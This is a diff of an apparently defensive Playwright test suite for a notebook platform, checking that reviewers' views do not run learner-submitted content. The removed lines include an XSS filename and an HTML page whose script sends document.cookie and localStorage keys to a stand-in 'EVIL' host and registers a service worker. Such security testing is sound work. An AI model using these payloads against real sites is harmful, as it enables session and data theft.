@@ -8,13 +8,15 @@ from typing import TYPE_CHECKING
 from playwright.async_api import Error, expect
 
 from platform_server.identity.model import Role
-from platform_server.testing.payloads import EVIL, VECTORS, files, notebooks
+from platform_server.testing.payloads import EVIL, FIRED, VECTORS
 from platform_server.testing.serving import join
 
-if TYPE_CHECKING:
-    from playwright.async_api import Browser, BrowserContext, Route
+from .submitted_payloads import SCROLL, submission_with_payloads
 
-    from platform_server.testing.serving import Person, Server
+if TYPE_CHECKING:
+    from playwright.async_api import Browser, BrowserContext, ConsoleMessage, Route
+
+    from platform_server.testing.serving import Server
 
     from .conftest import Visit
     from .visitor import Visitor
@@ -29,51 +31,15 @@ class Watch:
     async def over(self, context: BrowserContext) -> None:
         """Begin."""
         await context.route(lambda url: url.startswith(EVIL), self._refuse)
+        context.on("console", self._hear)
+
+    def _hear(self, message: ConsoleMessage) -> None:
+        if FIRED in message.text:  # asked in vain
+            self.fired.append(message.text)
 
     async def _refuse(self, route: Route) -> None:
         self.fired.append(route.request.url)
         await route.abort()
-
-
-async def submission_with_payloads(maker: Person) -> tuple[str, list[str], int]:
-    """Submit all of them, and say them too; returns its id, the paths, and how many there are."""
-    project = await maker.project("payloads")
-    paths, count = [], 0
-    for path, data, payloads in (*notebooks(), *files()):
-        url = f"/api/projects/{project['id']}/files/{path}"
-        answer = await maker.http.put(url, content=data)
-        assert answer.status_code == 201, answer.text
-        paths.append(path)
-        count += payloads
-    taking = f"/api/projects/{project['id']}/files/taking.html"
-    await maker.http.put(taking, content=TAKING.encode())
-    odd = "<img src=x onerror=alert(1)>.txt"
-    await maker.http.put(f"/api/projects/{project['id']}/files/{odd}", content=b"x")
-    made = await maker.http.post(
-        f"/api/projects/{project['id']}/submissions", json={"message": VECTORS[4]}
-    )
-    comments = f"/api/submissions/{made.json()['id']}/comments"
-    for vector in VECTORS:
-        body = {"path": "code.ipynb", "body": vector, "anchor": {"cell_id": "c1", "line": 1}}
-        answer = await maker.http.post(comments, json=body | {"suggestion": vector})
-        assert answer.status_code == 201, answer.text
-        count += 1
-    return str(made.json()["id"]), [*paths, odd], count
-
-
-# Shows all of a file: frames are made when they come near to what is seen.
-SCROLL = """async () => {
-  const main = document.querySelector('.platform-Submission-main');
-  const drawn = () => new Promise(done => requestAnimationFrame(() => done()));
-  const missing = () =>
-    [...main.querySelectorAll('.platform-Frame')].find(one => !one.querySelector('iframe'));
-  for (let tries = 0; missing() && tries < 1000; tries++) {
-    missing().scrollIntoView();
-    await drawn();
-    await drawn();
-  }
-  return main.querySelectorAll('.platform-Frame').length;
-}"""
 
 
 async def shown(reviewer: Visitor, path: str) -> None:
@@ -107,14 +73,6 @@ async def seen_in_notebook_view(reviewer: Visitor, submission: str, path: str) -
         assert "noopener" in (await link.get_attribute("rel") or "")
     assert await view.locator("[data-commandlinker-command]").count() == 0
     await reviewer.run("application:close")
-
-
-# A page of the learner's, opened by itself: what it could take, keep and leave behind.
-TAKING = f"""<!doctype html><title>still</title><script>
-document.title = 'fired';
-fetch('{EVIL}/' + document.cookie + Object.keys(localStorage));
-navigator.serviceWorker.register('worker.js');
-</script>"""
 
 
 async def opened_by_itself(reviewer: Visitor, submission: str) -> None:
